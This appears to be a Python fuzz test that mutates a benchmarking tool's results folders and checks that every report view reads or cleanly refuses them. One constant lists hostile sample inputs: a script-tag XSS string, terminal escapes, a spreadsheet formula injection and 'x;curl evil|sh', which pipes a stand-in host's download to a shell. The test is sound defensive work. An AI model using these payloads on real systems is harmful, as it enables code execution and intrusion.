# SPDX-License-Identifier: Apache-2.0
"""Results folders with odd values, wrong numbers and damaged octets: every view reads each, or refuses it in one line.

A view that reads a folder in which one figure was changed shows the old figure or refuses the folder. Figures are the
numbers that follow from others of the folder: `figures_of` lists them.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import signal
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path
from random import Random
from types import FrameType
from typing import Any, Final
from unittest import mock

from tests.labs.storms.storm import Storm, Tally
from tests.unit.made_corpus import corpus
from tests.unit.mutants import mangled, mutant_of_several, places, replaced

from natgauge.cli import run
from natgauge.plain_text import visible
from natgauge.stored.consistency import NOT_STORED

#: The most seconds of a view, and the most characters of a refusal.
_SECONDS: Final = 5
_LONGEST: Final = 3000
#: Files of a folder that are changed.
_FILES: Final = frozenset(
    {
        "summary.json", "plan.json", "environment.json", "recipe.json", "comparison.json", "audit.json", "failure.json",
        "campaign.json", "trials.jsonl", "measurements.jsonl", "rounds.jsonl", "journal.jsonl",
    }
)  # fmt: skip
#: Values at which a terminal, a page, a table, a number or a data frame breaks.
_ODD: Final[tuple[Any, ...]] = (
    1e308, -1e308, 1e-320, 10**400, 2**53 + 1, 10**18, -0.0, "NaN", "<script>alert(1)</script>", "\x1b]0;x\x07\x1b[2J",
    "\u202egnp.exe", "\ud800", "a\u2028b", "=cmd|'/C calc'!A0", "@team http://evil.example", "x;curl evil|sh", [None],
    None,
)  # fmt: skip
#: How a figure is made wrong.
_WRONG: Final[tuple[Callable[[float], float], ...]] = (
    lambda value: value * 10, lambda value: value + 1, lambda value: -value - 1, lambda _: 0,
    lambda value: value * 1.001,
)  # fmt: skip
#: Share of the mutants with one wrong figure, and of those whose octets are damaged.
_FIGURES, _DAMAGED = 0.3, 0.15
#: Share of the mutants that are edited as a stranger would.
_EDITED: Final = 0.15
#: Characters that no view may print, line feeds and tabs aside.
_CONTROLS: Final = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")
#: Exit statuses of views.
_STATUSES: Final = frozenset({0, 1, 2, 3, 5})

#: Numbers of a record that nothing else in its folder repeats: inputs, seeds, times, and counts of notes.
_ALONE: Final = (
    re.compile(
        r"parameters\.settings\..*|.*\.(?:seed|seeds|begun|labs|lab_stays)(?:\..*)?|(?:doubts|notes)\..*|.*\.notes\..*"
    ),
    re.compile(
        r"(?:level|resolve|fail_above|seconds|seed|began)|gateways\..*|.*\.limits\..*|(?:estimates|control)\.\d+\.level"
    ),
)
#: Of an audit, no number follows from others.
_RECORDS: Final = ("summary.json", "comparison.json")


@dataclass(frozen=True, slots=True)
class View:
    """A command that shows a folder: its words, and how often it is tried."""

    words: Callable[[str, str, Path], Sequence[str]]
    often: int = 10


def _report(*more: str) -> Callable[[str, str, Path], Sequence[str]]:
    return lambda folder, _other, _place: ["report", folder, *more]


VIEWS: Final[Mapping[str, View]] = {
    "text": View(_report(), 20),
    "csv": View(_report("--format", "csv")),
    "latex": View(_report("--format", "latex")),
    "markdown": View(_report("--format", "markdown")),
    "draft": View(_report("--format", "draft")),
    "against metrics": View(lambda folder, other, _: ["report", folder, other, "--against", "metrics"]),
    "against cores": View(lambda folder, other, _: ["report", folder, other, "--against", "cores"]),
    "like": View(_report("--like", "nat64-paper-table-10"), 3),
    "html": View(lambda folder, _, place: ["report", folder, "--html", str(place / "page.html")], 4),
    "parquet": View(lambda folder, _, place: ["report", folder, "--parquet", str(place / "frames")], 10),
    "diff": View(lambda folder, other, _: ["diff", other, folder, "--margin", "5%"], 15),
    "diff --json": View(lambda folder, other, _: ["diff", folder, other, "--json"]),
    "explain": View(lambda folder, _, __: ["explain", folder], 15),
    "explain --json": View(lambda folder, _, __: ["explain", folder, "1", "--json"]),
    "status": View(lambda folder, _, __: ["status", folder], 5),
}
#: Views whose output is compared where one figure was changed.
_COMPARED: Final = ("text", "csv", "latex", "markdown", "draft", "diff", "diff --json")


@dataclass(frozen=True, slots=True)
class Shown:
    """What a view printed, and how it ended."""

    status: int | None
    out: str
    err: str


class _TooLongError(BaseException):
    """A view that has not ended in time."""


@contextmanager
def _in_time() -> Iterator[None]:
    def ended(_number: int, _frame: FrameType | None) -> None:
        raise _TooLongError

    before = signal.signal(signal.SIGALRM, ended)
    # The bound is of processor time in spirit: three times as long on a machine that others use, too.
    signal.alarm(3 * _SECONDS)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


def shown(view: str, folder: Path, other: Path, place: Path) -> Shown:
    """Run a view of a folder in this process."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err), _in_time():
        status = run([*VIEWS[view].words(str(folder), str(other), place)])
    return Shown(status, out.getvalue(), err.getvalue())


def faults_of(found: Shown) -> Iterator[str]:
    """What must not be, of any folder."""
    if "a fault of natgauge" in found.err or "Traceback" in found.err:
        yield f"a fault: {found.err[-400:]}"
    if found.status not in _STATUSES:
        yield f"exit status {found.status}: {found.err[:200]}"
    if found.status == 2 and (len(found.err) > _LONGEST or not found.err.strip()):
        yield f"a refusal of {len(found.err)} characters: {found.err[:200]}"
    for name, text in (("output", found.out), ("errors", found.err)):
        if character := _CONTROLS.search(text):
            yield f"the {name} have the character {character[0]!r}"


def figures_of(name: str, document: Any) -> list[tuple[str | int, ...]]:
    """Places of the numbers of a record that follow from others of its folder."""
    if name not in _RECORDS:
        return []
    found = []
    for place in places(document):
        value: Any = document
        for step in place:
            value = value[step]
        path = ".".join(map(str, place))
        is_number = isinstance(value, int | float) and not isinstance(value, bool)
        if is_number and not any(each.fullmatch(path) for each in _ALONE):
            found.append(place)
    return found


class Folders:
    """A corpus, and the outputs of its views."""

    def __init__(self, place: Path, chance: Random) -> None:
        self.place, self.chance = place, chance
        self.folders = corpus(place / "corpus")
        self.mutant = place / "mutant"
        self._sound: dict[tuple[Path, str], Shown] = {}

    def copied(self) -> tuple[Path, list[Path]]:
        """Copy one folder to `mutant`; return the original and the files that may be changed."""
        original = self.chance.choice(self.folders)
        shutil.rmtree(self.mutant, ignore_errors=True)
        shutil.copytree(original, self.mutant)
        return original, sorted(path for path in self.mutant.rglob("*") if path.name in _FILES)

    def sound(self, original: Path, view: str) -> Shown:
        """The view of a folder before it was changed, as if it were at the place of the mutant."""
        if (original, view) not in self._sound:
            shutil.rmtree(self.mutant, ignore_errors=True)
            shutil.copytree(original, self.mutant)
            self._sound[original, view] = shown(view, self.mutant, original, self.place)
        return self._sound[original, view]

    def wrong_figure(self) -> tuple[Path, str, str] | None:
        """Change one figure; return the original, the change, and a view that must not show it. None = it has none."""
        original = self.chance.choice(self.folders)
        view = self.chance.choice(_COMPARED)
        self.sound(original, view)
        shutil.rmtree(self.mutant, ignore_errors=True)
        shutil.copytree(original, self.mutant)
        records = sorted(path for path in self.mutant.rglob("*") if path.name in _RECORDS)
        if not records:
            return None
        path = self.chance.choice(records)
        document = json.loads(path.read_bytes())
        if not (figures := figures_of(path.name, document)):
            return None
        at = self.chance.choice(figures)
        value: Any = document
        for step in at:
            value = value[step]
        wrong = self.chance.choice(_WRONG)(value)
        wrong = int(wrong) if isinstance(value, int) else wrong
        if wrong == value:
            return None
        path.write_text(json.dumps(replaced(document, at, wrong)))
        return original, f"{path.name}: {'.'.join(map(str, at))}: {value} -> {wrong}", view

    def odd(self) -> Path:
        """Change one to four values, or the octets, of one file or two; return the original."""
        original, files = self.copied()
        for path in self.chance.sample(files, min(len(files), self.chance.choice((1, 1, 1, 2)))):
            if self.chance.random() < 0.03:
                path.unlink()
            else:
                path.write_bytes(self._changed(path))
        return original

    def _changed(self, path: Path) -> bytes:
        octets = path.read_bytes()
        if self.chance.random() < _DAMAGED:
            return mangled(octets, self.chance)
        if path.suffix == ".json":
            return _written(self._odd_value(json.loads(octets)))
        lines = octets.splitlines()
        for _ in range(self.chance.choice((1, 1, 2, 4)) if lines else 0):
            at = self.chance.randrange(len(lines))
            lines[at] = _written(self._odd_value(json.loads(lines[at])) if lines[at].startswith(b'{"') else {})
        return b"\n".join([*lines, b""])

    def _odd_value(self, document: Any) -> Any:
        if self.chance.random() < 0.5:
            return mutant_of_several(document, self.chance)
        for _ in range(self.chance.choice((1, 1, 2))):
            if known := list(places(document)):
                document = replaced(document, self.chance.choice(known), self.chance.choice(_ODD))
        return document


def _written(document: Any) -> bytes:
    """A document with integers of no more digits than Python writes."""

    def short(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: short(inner) for name, inner in value.items()}
        if isinstance(value, list | tuple):
            return [short(inner) for inner in value]
        return 10**4000 if isinstance(value, int) and value > 10**4000 else value

    return json.dumps(short(document), separators=(",", ":")).encode("utf-8", "surrogatepass")


def _edited(folder: Path, chance: Random) -> str:
    """Change what a stranger would: doubts, verdicts, lines, unit, a parameter or a ratio; "" = nothing was changed."""
    summary, trials = folder / "summary.json", folder / "trials.jsonl"
    if (folder / "rounds.jsonl").exists() and (folder / "comparison.json").exists():
        return _ratio_edited(folder / "comparison.json", chance)
    if not summary.exists() or not trials.exists() or not trials.read_bytes():
        return ""
    lines = trials.read_text().splitlines(keepends=True)
    document = json.loads(summary.read_bytes())
    what = chance.choice(("lines doubled", "verdict flipped", "unit", "connections", "last line cut", "doubts"))
    if what == "lines doubled":
        trials.write_text("".join(lines * 2))
    elif what == "last line cut":
        trials.write_text("".join(lines)[:-1])
    elif what == "verdict flipped" and lines and '"reason":' in lines[0]:
        flipped = json.loads(lines[0])
        flipped["verdict"] = "FAIL" if flipped["verdict"] == "PASS" else "PASS"
        trials.write_text("".join([json.dumps(flipped) + "\n", *lines[1:]]))
    elif what == "doubts" and any(doubt["word"] not in NOT_STORED for doubt in document["doubts"]):
        left = [doubt for doubt in document["doubts"] if doubt["word"] in NOT_STORED]
        summary.write_text(json.dumps({**document, "doubts": left}))
    elif what == "unit":
        summary.write_text(json.dumps({**document, "unit": "parsecs"}))
    elif what == "connections" and "connections" in document["parameters"]["traffic"]:
        for path in (summary, folder / "plan.json"):
            text = path.read_text()
            path.write_text(re.sub(r'"connections": \d+', '"connections": -3', text))
    else:
        return ""
    return what


def _ratio_edited(comparison: Path, chance: Random) -> str:
    """Multiply one ratio, both ends of its interval, and its nanoseconds by the same factor; "" = it has no ratio."""
    document = json.loads(comparison.read_bytes())
    known = [estimate for estimate in document["estimates"] if estimate["ratio"] and estimate["low"]]
    if not known:
        return ""
    estimate, factor = chance.choice(known), chance.choice((0.5, 0.9, 1.1, 2))
    for name in ("ratio", "low", "high", "nanoseconds"):
        if estimate.get(name) is not None:
            estimate[name] *= factor
    comparison.write_text(json.dumps(document))
    return "ratio with its interval"


def _once_edited(folders: Folders) -> tuple[str, list[str], str]:
    """Make and show a mutant that contradicts itself; every view of results refuses it."""
    folders.copied()
    what = _edited(folders.mutant, folders.chance)
    if not what:
        return "not edited", [], ""
    found = shown(folders.chance.choice(_COMPARED), folders.mutant, folders.mutant, folders.place)
    faults = [*faults_of(found), *(["an edited folder is read"] if found.status != 2 else [])]
    return "refused, edited" if not faults else "read, edited", faults, what


def _once(folders: Folders) -> tuple[str, list[str], str]:
    """Make and show one mutant; return how its view ended, the faults, and the change."""
    is_figure = folders.chance.random() < _FIGURES
    changed = folders.wrong_figure() if is_figure else None
    if changed is not None:
        original, what, view = changed
    else:
        original, what = folders.odd(), ""
        view = folders.chance.choices(list(VIEWS), [each.often for each in VIEWS.values()])[0]
    try:
        found = shown(view, folders.mutant, original, folders.place)
    except _TooLongError:
        return "hung", [f"{view}: more than {3 * _SECONDS} s"], what
    except Exception as error:  # noqa: BLE001 - the mutant shows it again
        return "escaped", [f"{view}: {type(error).__name__}: {str(error)[:300]}"], what
    faults = [f"{view}: {fault}" for fault in faults_of(found)]
    if changed is not None and found.status != 2 and found.out != folders.sound(original, view).out:
        faults.append(f"{view}: a wrong figure is shown")
    ended = "refused" if found.status == 2 else "read"
    return f"{ended}, {'one wrong figure' if changed else 'odd values'}", faults, what


def _mutate_results(tally: Tally) -> None:
    environment = {"TMPDIR": str(tally.folder), "COLUMNS": "100"}
    with mock.patch("os.fsync"), mock.patch.dict(os.environ, environment):
        folders = Folders(tally.folder, tally.chance)
        while tally.goes_on:
            is_edit = tally.chance.random() < _EDITED
            ended, faults, what = _once_edited(folders) if is_edit else _once(folders)
            tally.saw(ended)
            if faults:
                kept = Path(os.environ.get("NATGAUGE_STORM_MUTANTS", tally.folder)) / f"results-{tally.count}"
                shutil.rmtree(kept, ignore_errors=True)
                shutil.copytree(folders.mutant, kept)
                tally.blame(visible(f"{fault} ({what} {kept})") for fault in faults)


STORED: Final = (
    Storm(
        name="mutate-results",
        started="report in every form, diff, explain and status of results, comparisons, audits, campaigns, failures",
        disturbed="values removed and replaced by odd ones, one figure made wrong; octets, spans and lines changed",
        holds=(
            "each is read, or refused in one line; no traceback, nothing above 5 s, no control character, and no wrong "
            "figure is shown"
        ),
        unit="mutants",
        full=50_000,
        soak=2_000,
        make=_mutate_results,
    ),
)
